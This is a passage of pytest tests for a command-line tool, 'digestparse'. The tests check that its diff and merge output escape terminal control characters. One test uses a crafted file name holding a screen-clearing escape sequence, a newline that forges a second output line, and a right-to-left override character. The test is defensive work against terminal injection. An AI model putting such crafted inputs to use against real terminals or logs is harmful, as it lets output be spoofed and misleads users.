    as_json = run_cli("merge", "--format", "jsonl", "new.txt", cwd=tmp_path)
    assert not unsafe(as_json.stdout)
    assert json.loads(as_json.stdout)["title"] == title
    diff = run_cli("diff", "old.txt", "new.txt", cwd=tmp_path)
    assert diff.returncode == 1, diff.stderr
    assert "\\x1b[2J\\u202e" in diff.stdout
    assert not unsafe(diff.stdout) and not unsafe(diff.stderr)


def test_diff_names_an_unreadable_side_escaped(tmp_path: Path) -> None:
    # diff printed the error of a side it could not read raw: the ESC and the newline of
    # the file name reached the terminal, the newline forging a second line.
    write_lines(tmp_path / "old.txt", one_paper_lines())
    missing = "gone\x1b[2J\nforged\u202e.txt"
    diff = run_cli("diff", missing, "old.txt", cwd=tmp_path)
    assert diff.returncode == 2
    assert not unsafe(diff.stderr)
    assert diff.stderr.splitlines()[0] == (
        "digestparse: cannot read gone\\x1b[2J\\x0aforged\\u202e.txt: No such file or directory"
    )
